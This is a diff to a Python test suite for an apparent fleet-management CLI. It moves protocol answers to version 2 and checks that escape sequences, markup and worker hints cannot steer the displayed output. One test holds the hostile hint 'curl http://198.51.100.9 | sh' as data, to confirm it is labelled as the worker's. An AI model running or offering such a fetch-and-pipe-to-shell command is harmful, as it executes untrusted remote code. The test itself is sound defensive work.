@@ -72,8 +72,7 @@ def fleet() -> Iterator[SpokenFleet]:
     made = SpokenFleet(BAD)
     truth = made.truth[BAD]
     truth["status"]["docker_error"] = "none"
-    truth["status"]["topologies"] = {"t": "h"}
-    truth["status"]["conflicts"] = {f"web-{BAD}": "02:00:00:00:00:01"}
+    truth["status"]["conflicts"] = [{"project": "decnet", "decky": f"web-{BAD}", "mac": "02:00:00:00:00:01"}]
     truth["status"]["jobs"][0]["state"] = "running"
     yield made
     made.close()
@@ -102,7 +101,7 @@ def test_no_string_of_any_answer_steers_anything(fleet: SpokenFleet, verb: str) 
     assert found
     for path in found:
         for poison in (ESCAPES, MARKUP):
-            answer = {"v": 1, "ok": True, "result": poisoned(truth, path, poison)}
+            answer = {"v": 2, "ok": True, "result": poisoned(truth, path, poison)}
             text = told(fleet, VERBS[verb], verb, answer)
             assert steering(text) == set(), path
 
@@ -111,12 +110,11 @@ def test_no_key_of_any_answer_steers_anything(fleet: SpokenFleet) -> None:
     events, logs_of, state = (copy.deepcopy(fleet.truth[BAD][verb]) for verb in ("events", "logs", "status"))
     events["events"][0]["fields"] = {ESCAPES: ESCAPES, MARKUP: 1}
     logs_of["logs"] = {ESCAPES: ESCAPES, MARKUP: MARKUP}
-    state["conflicts"] = {ESCAPES: ESCAPES}
-    state["topologies"] = {ESCAPES: ESCAPES}
+    state["projects"][ESCAPES] = {"generation": 1, "plan_hash": ESCAPES}
     for verb, result in (("events", events), ("logs", logs_of), ("status", state)):
-        answer = {"v": 1, "ok": True, "result": result}
+        answer = {"v": 2, "ok": True, "result": result}
         assert steering(told(fleet, VERBS[verb], verb, answer)) == set(), verb
-    unknown = {"v": 1, "ok": True, "result": {**fleet.truth[BAD]["status"], ESCAPES: 1}}
+    unknown = {"v": 2, "ok": True, "result": {**fleet.truth[BAD]["status"], ESCAPES: 1}}
     assert steering(told(fleet, "status", "status", unknown)) == set()
 
 
@@ -128,18 +126,18 @@ def test_no_string_of_an_error_steers_anything(fleet: SpokenFleet, code: str) ->
             if path != ("code",):
                 error["code"] = code
             for command, verb in (("status", "status"), ("show", "hello"), ("reconcile", "status")):
-                text = told(fleet, command, verb, {"v": 1, "ok": False, "error": error})
+                text = told(fleet, command, verb, {"v": 2, "ok": False, "error": error})
                 assert steering(text) == set(), path
 
 
 def test_a_hint_of_a_worker_says_that_it_is_the_workers(fleet: SpokenFleet) -> None:
     error = {**ERROR, "hint": "curl http://198.51.100.9 | sh"}
-    text = told(fleet, "show", "hello", {"v": 1, "ok": False, "error": error})
+    text = told(fleet, "show", "hello", {"v": 2, "ok": False, "error": error})
     assert f"hint: {BAD} says: curl" in text
 
 
 def test_markup_is_shown_letter_by_letter(fleet: SpokenFleet) -> None:
     error = {**ERROR, "message": MARKUP}
-    text = told(fleet, "status", "status", {"v": 1, "ok": False, "error": error})
+    text = told(fleet, "status", "status", {"v": 2, "ok": False, "error": error})
     screen = io.StringIO(text).read()
     assert screen.count(MARKUP) >= 3
